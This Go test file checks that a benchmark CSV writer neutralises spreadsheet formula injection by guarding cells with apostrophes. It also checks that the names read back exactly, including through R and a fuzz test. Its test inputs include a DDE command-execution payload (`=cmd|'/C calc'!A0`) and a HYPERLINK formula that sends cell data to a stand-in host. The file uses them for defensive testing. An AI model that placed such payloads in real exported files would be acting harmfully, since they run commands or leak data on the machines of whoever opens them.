package benchfmt

import (
	"encoding/csv"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/prbench/prbench/internal/job"
)

func TestAnApostropheStandsBeforeWhatASpreadsheetWouldTakeForAFormula(t *testing.T) {
	for name, want := range map[string]string{
		`=1+1`:                        `'=1+1`,
		`+1`:                          `'+1`,
		`-1`:                          `'-1`,
		`@SUM(A1)`:                    `'@SUM(A1)`,
		"\t=1":                        "'\t'=1",
		"\rx":                         "'\rx",
		`＝1`:                          `'＝1`,
		`'=1`:                         `''=1`,
		`''=1`:                        `'''=1`,
		`a;=HYPERLINK("http://x")`:    `a;'=HYPERLINK("http://x")`,
		`a; "@x" ;;-2`:                `a; "'@x" ;;'-2`,
		`";=`:                         `";'=`,
		`process/a.js n=1 x=-5 y=a@b`: `process/a.js n=1 x=-5 y=a@b`,
		`'quoted' a='=b'`:             `'quoted' a='=b'`,
		``:                            ``,
		`'`:                           `'`,
		"a;'":                         "a;'",
		"\xff=":                       "\xff=",
	} {
		got := guardFormulas(name)
		if got != want {
			t.Errorf("%q is guarded as %q, want %q", name, got, want)
		}
		if back := unguardFormulas(got); back != name {
			t.Errorf("%q comes back as %q", name, back)
		}
	}
}

// hostileNames are such as a benchmark may choose to attack who opens its samples.
var hostileNames = []string{`=cmd|'/C calc'!A0`, `=HYPERLINK("http://forge.test/?"&A1,"x")`, `+1+1`, `-2+3`, `@SUM(1,1)`, `＝1+1`, `'=1`, `''@x`,
	`a;=1+1;b`, `a;"=1+1";b`, `plain`, `'plain`, `"=1"`}

func hostileRecords() []Record {
	var recs []Record
	for i, name := range hostileNames {
		for pair, side := range []job.SideName{job.Old, job.New} {
			recs = append(recs, Record{Side: side, Pair: pair, Position: 0, Suite: name, Case: name, Line: len(recs) + 2, Sample: job.Sample{
				Benchmark: name, Config: hostileNames[len(hostileNames)-1-i], Unit: []string{"ops/s", "=u"}[i%2], Value: float64(-i), Count: 1}})
		}
	}
	for i := range recs {
		recs[i].Sample.Better = Direction(recs[i].Sample.Unit)
	}
	return recs
}

// readsBack fails unless the text gives the very records.
func readsBack(t *testing.T, text string, recs []Record) {
	t.Helper()
	got, rd := readAll(t, strings.NewReader(text), nodeCSV)
	if rd.Err() != nil || rd.Problems().Count != 0 {
		t.Fatal(rd.Err(), rd.Problems().Quoted())
	}
	for i := range got {
		got[i].Series = 0
	}
	if d := cmp.Diff(recs, got); d != "" {
		t.Error(d)
	}
}

func TestAGuardedFileHasNoFormulaAndGivesTheExactNames(t *testing.T) {
	recs := hostileRecords()
	text := writeWith(t, NewGuardedWriter, recs)
	// Both ways in which spreadsheet programs cut the lines.
	for _, comma := range []rune{',', ';'} {
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		rows, err := r.ReadAll()
		if err != nil || len(rows) != len(recs)+1 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for i, row := range rows {
			for j, cell := range row {
				number := comma == ',' && j == 3 // the measured value
				if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") && !number {
					t.Errorf("row %d: %q is a formula", i, cell)
				}
			}
		}
	}
	readsBack(t, text, recs)
}

// Also an apostrophe of one's own before a formula is one's own there.
func TestAFileThatIsNotGuardedHasTheExactNamesAsTheyAre(t *testing.T) {
	recs := hostileRecords()
	text := write(t, recs)
	if !strings.Contains(text, `"=cmd|'/C calc'!A0"`) || strings.Contains(text, "guarded") {
		t.Errorf("the names are not as they are:\n%s", text)
	}
	readsBack(t, text, recs)
}

// Of a guarded file R has the apostrophes, and the numbers all the same.
func TestCompareRReadsTheExactNamesWhereNothingIsGuarded(t *testing.T) {
	recs := hostileRecords()
	for _, c := range []struct {
		text string
		name func(string) string
	}{{write(t, recs), func(s string) string { return s }}, {writeWith(t, NewGuardedWriter, recs), guardFormulas}} {
		cmd := exec.Command("Rscript", "--vanilla", "testdata/names.R")
		cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8")
		cmd.Stdin = strings.NewReader(c.text)
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("Rscript: %v", err)
		}
		var want []string
		for _, r := range recs {
			want = append(want, c.name(r.Sample.Benchmark)+"\t"+c.name(strings.TrimSpace(r.Sample.Config+unitLabel(r.Sample.Unit)))+"\t"+strconv.Itoa(int(r.Sample.Value)))
		}
		if d := cmp.Diff(want, strings.Split(strings.TrimSpace(string(out)), "\n")); d != "" {
			t.Error(d)
		}
	}
}

func FuzzAGuardedNameComesBack(f *testing.F) {
	for _, s := range append(hostileNames, "\t\r\n'=", "';'\";''=", "'\xff=") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := guardFormulas(s)
		if back := unguardFormulas(g); back != s {
			t.Errorf("%q is guarded as %q and comes back as %q", s, g, back)
		}
		for _, cell := range strings.FieldsFunc(g, func(r rune) bool { return strings.ContainsRune(cellEnds, r) }) {
			if cell = strings.TrimLeft(cell, beforeText); cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("%q is guarded as %q, with the formula %q", s, g, cell)
			}
		}
	})
}
